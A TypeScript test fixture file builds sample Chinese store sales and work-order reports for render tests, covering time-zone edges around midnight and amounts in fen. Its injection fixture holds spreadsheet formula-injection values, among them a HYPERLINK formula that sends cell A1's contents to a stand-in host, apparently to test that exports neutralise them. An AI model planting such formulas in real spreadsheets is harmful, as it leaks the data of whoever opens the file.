// Report documents built for the render tests. All names and figures are made up.

import type { ReportColumn, ReportDocument, ReportRow, ReportSection } from '../../../../src/reports/render/index.js';

export const GENERATED_AT = '2024-02-01T01:00:00Z';

const baseParameters = {
  period: { from: '2024-01-01', to: '2024-02-01' },
  stores: [
    { code: '0001', name: '静安寺店' },
    { code: '0002', name: '徐家汇店' },
  ],
  generatedAt: GENERATED_AT,
  generatedBy: '王会计',
} as const;

/** Monthly store summary: business dates, a late checkout each side of midnight, sales in fen. */
export const timezoneColumns: readonly ReportColumn[] = [
  { key: 'store_code', type: 'code', label: { en: 'Store code', 'zh-CN': '门店编码' } },
  { key: 'business_date', type: 'date', label: { en: 'Business date', 'zh-CN': '营业日' } },
  { key: 'last_checkout_at', type: 'datetime', label: { en: 'Last checkout', 'zh-CN': '最后结账时间' } },
  { key: 'sales', type: 'money_fen', label: { en: 'Sales', 'zh-CN': '销售额' } },
];

export const timezoneRows: readonly ReportRow[] = [
  { store_code: '0001', business_date: '2024-01-31', last_checkout_at: '2024-01-31T23:30:00+08:00', sales: 128050 },
  { store_code: '0002', business_date: '2024-02-01', last_checkout_at: '2024-02-01T00:10:00+08:00', sales: 35600 },
];

export function timezoneDocument(overrides: Partial<ReportDocument> = {}): ReportDocument {
  return {
    title: { en: 'Monthly store sales summary', 'zh-CN': '月度门店销售汇总' },
    language: 'zh-CN',
    timeZone: 'Asia/Shanghai',
    parameters: baseParameters,
    sections: [
      {
        key: 'store_days',
        name: { en: 'Store days', 'zh-CN': '门店日汇总' },
        columns: timezoneColumns,
        rows: timezoneRows,
      },
    ],
    ...overrides,
  };
}

/** Work-order export whose text cells start like formulas, next to negative and zero amounts. */
export const injectionColumns: readonly ReportColumn[] = [
  { key: 'store_name', type: 'text', label: { en: 'Store name', 'zh-CN': '门店名称' } },
  { key: 'remark', type: 'text', label: { en: 'Remark', 'zh-CN': '备注' } },
  { key: 'amount', type: 'money_fen', label: { en: 'Amount', 'zh-CN': '金额' } },
  { key: 'phone', type: 'text', label: { en: 'Phone', 'zh-CN': '联系电话' } },
];

export const HYPERLINK_FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"点我")';

export const injectionRows: readonly ReportRow[] = [
  { store_name: HYPERLINK_FORMULA, remark: '正常备注', amount: -3600, phone: '+86 13800000000' },
  { store_name: '@门店群', remark: '-折扣调整', amount: 0, phone: '021-00000000' },
  { store_name: '\tcmd', remark: '=1+1', amount: 1250, phone: '' },
];

export function injectionDocument(): ReportDocument {
  return {
    title: { en: 'Store work orders', 'zh-CN': '门店工单导出' },
    language: 'zh-CN',
    parameters: baseParameters,
    sections: [
      {
        key: 'work_orders',
        name: { en: 'Work orders', 'zh-CN': '工单' },
        columns: injectionColumns,
        rows: injectionRows,
      },
    ],
  };
}

/** Build a document with one section of the given columns and rows, for table-driven tests. */
export function singleSectionDocument(
  columns: readonly ReportColumn[],
  rows: ReportSection['rows'],
  section: Partial<ReportSection> = {},
): ReportDocument {
  return {
    title: { en: 'Test report', 'zh-CN': '测试报表' },
    language: 'en',
    parameters: { ...baseParameters, stores: 'all' },
    sections: [{ key: 'data', name: { en: 'Data', 'zh-CN': '数据' }, columns, rows, ...section }],
  };
}
